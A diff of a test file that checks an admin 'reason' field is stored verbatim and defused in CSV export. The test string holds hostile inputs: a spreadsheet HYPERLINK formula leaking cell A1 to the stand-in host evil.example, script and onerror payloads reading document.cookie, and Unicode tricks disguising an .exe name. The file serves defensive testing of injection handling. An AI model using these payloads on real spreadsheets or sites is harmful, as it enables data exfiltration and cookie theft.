@@ -320,7 +320,7 @@ describe('reasons are stored as typed, and defused only in the CSV export', () =
   const admin = demoRealm.operators.find((operator) => operator.role === 'admin')!;
   const reason =
     '=HYPERLINK("https://evil.example/?leak="&A1,"Open") <img src=x onerror=alert(1)><script>alert(document.cookie)</script> ' +
-    'שלום עולם مرحبا \u202Egnp.exe\u202C; "quoted", +1 @SUM(1)';
+    'שלום עולם مرحبا \u200Dgnp.exe\u200B; "quoted", +1 @SUM(1)';
 
   it('ends a real session with a hostile reason; the trail shows it byte for byte; the CSV neutralises the formula', async () => {
     const browser = test.agent();
